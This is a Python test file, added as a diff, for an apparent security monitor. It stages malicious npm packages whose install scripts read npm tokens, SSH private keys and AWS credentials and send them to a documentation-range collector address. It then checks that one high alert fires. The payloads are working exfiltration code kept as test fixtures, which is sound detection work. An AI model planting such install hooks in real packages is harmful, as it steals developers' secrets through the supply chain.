@@ -1,0 +1,142 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""A supply-chain theft, for real: npm installs a package from a registry, and the package's install script reads
+the user's tokens and keys and posts them. One alert, with everything in it; the honest package is silent, though
+npm itself used the token and the honest script the network."""
+
+import json
+import os
+import sys
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../lib"))
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../benign"))
+
+import harness
+import scene as stage
+import tap
+from net import HOST_V4, ip
+from registry import TOKEN, Registry
+from scene import USERS
+from tap import require, require_equal
+
+# TEST-NET-3, RFC 5737.
+COLLECTOR = "203.0.113.66"
+NPM_TIMEOUT = 120
+
+SECRETS = {".npmrc": "package-registries", ".ssh/id_ed25519": "ssh-private-keys", ".aws/credentials": "cloud-aws"}
+
+# Five times, as such scripts do when they get no answer.
+STEAL = """
+const fs = require("fs"), net = require("net"), home = process.env.HOME;
+const loot = %s.map(name => fs.readFileSync(home + "/" + name)).join("\\n");
+let tries = 5;
+(function post() {
+    const to = net.connect(443, "%s", () => to.end("POST /collect HTTP/1.0\\r\\n\\r\\n" + loot));
+    to.on("close", () => { if (--tries) post(); });
+})();
+"""
+
+# By a process for each file and one more for the network.
+STEAL_BY_SHELL = """
+{ cat ~/.npmrc; cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; } >loot
+for name in .npmrc .ssh/id_ed25519 .aws/credentials; do while read -r line; do :; done <~/$name; done
+exec node -e '
+    const loot = require("fs").readFileSync("loot");
+    const to = require("net").connect(443, "%s", () => to.end("POST /collect HTTP/1.0\\r\\n\\r\\n" + loot));
+'
+"""
+
+HONEST = """
+const http = require("http"), fs = require("fs");
+http.get("http://%s/", r => r.pipe(fs.createWriteStream("built")));
+"""
+
+
+class Play:
+    def __init__(self, s, registry):
+        self.s, self.registry = s, registry
+
+    def home(self, user):
+        return self.s.world.home_of(user)
+
+    def secrets(self, user):
+        """What is in their files, which says that it arrived."""
+        texts = {name: self.s.home.secret().decode() for name in SECRETS}
+        texts[".npmrc"] = self.registry.npmrc()
+        for name, text in texts.items():
+            self.s.world.write(user, name, text)
+        self.s.world.write(user, "application/package.json", '{"name":"application","version":"1.0.0"}', 0o644)
+        return texts
+
+    def install(self, user, package):
+        self.registry.asked.clear()
+        result = self.s.run(["npm", "install", "--no-audit", "--no-fund", "--no-update-notifier",
+                             "--foreground-scripts", "--prefix", f"{self.home(user)}/application", package],
+                            user, timeout=NPM_TIMEOUT)
+        require_equal(result.returncode, 0, f"npm install {package}\n{result.stdout}{result.stderr}")
+        # It is answered to who shows the token only.
+        require(f"/{package}" in self.registry.asked, f"npm did not use the token: {self.registry.asked}")
+
+    def honest(self, user):
+        self.secrets(user)
+        with self.s.silence():
+            self.install(user, "honest")
+        built = self.s.world.do("cat", f"{self.home(user)}/application/node_modules/honest/built", user=user)
+        require_equal(built, "hello\n", "what the honest script fetched")
+
+    def theft(self, user, package):
+        texts = self.secrets(user)
+        before, arrived = len(self.s.bw.alerts), len(self.s.net.sink.arrived)
+        self.install(user, package)
+        self.s.bw.prove_delivered(self.s.net, self.s.home)
+        # An alert that is told again with the number of its repetitions is the same one.
+        alerts = list({a["id"]: a for a in self.s.bw.alerts[before:]
+                       if a["process"]["comm"] != "technique-out-t"}.values())
+        told = "\n".join(f"{a['summary']} {a['process']} {a['destination']}" for a in alerts)
+        require_equal(len(alerts), 1, f"alerts\n{told}\n")
+        self.check(alerts[0], user)
+
+        stolen = b"".join(entry[3] for entry in self.s.net.sink.arrived[arrived:])
+        for name, text in texts.items():
+            require(text.strip().splitlines()[1].encode() in stolen, f"the theft of ~/{name} did not succeed")
+        return alerts[0]
+
+    def check(self, alert, user):
+        told = f"\n{json.dumps(alert)}"
+        require_equal(alert["severity"], "high", f"severity{told}")
+        require(alert["score"] >= 70, f"score {alert['score']}{told}")
+        require_equal((alert["destination"]["address"], alert["destination"]["port"]), (COLLECTOR, 443),
+                      f"destination{told}")
+        # npm calls itself "npm install …"; its executable is node.
+        npm = [a for a in alert["lineage"] if a["exe"].endswith("/node") and a["comm"].startswith("npm")]
+        require_equal(len(npm), 1, f"npm in the lineage{told}")
+        for name, wanted in SECRETS.items():
+            path = f"{self.home(user)}/{name}"
+            classes = [f["class"] for f in alert["files"] if f["path"] == harness.as_text(path.encode())]
+            require(wanted in str(classes), f"~/{name} is told as {classes}{told}")
+        reasons = " ".join(str(reason) for reason in alert["reasons"])
+        for word in ("install scripts", "different classes"):
+            require(word in reasons, f"no reason says \"{word}\": {reasons}")
+
+
+def main():
+    t = tap.Tap()
+    with stage.scene() as s, Registry(s.net, HOST_V4) as registry:
+        ip("-n", s.net.host, "address", "add", f"{COLLECTOR}/32", "dev", "lo")
+        ip("-n", s.net.thief, "route", "add", f"{COLLECTOR}/32", "via", HOST_V4)
+        registry.add_npm("honest", files={"build.js": HONEST % HOST_V4}, scripts={"postinstall": "node build.js"})
+        registry.add_npm("evil", files={"steal.js": STEAL % (json.dumps(list(SECRETS)), COLLECTOR)},
+                         scripts={"postinstall": "node steal.js"})
+        registry.add_npm("evilshell", files={"steal.sh": STEAL_BY_SHELL % COLLECTOR},
+                         scripts={"preinstall": "sh steal.sh"})
+        play = Play(s, registry)
+        for user in USERS:
+            t.case(f"{user}: an honest package is silent", play.honest, user)
+            t.case(f"{user}: a package that steals is one high alert", play.theft, user, "evil")
+            t.case(f"{user}: one that steals by the shell, too", play.theft, user, "evilshell")
+        t.case(f"the token {TOKEN} was npm's to use: no loss", stage.whole, s.bw)
+    t.done()
+
+
+if __name__ == "__main__":
+    main()
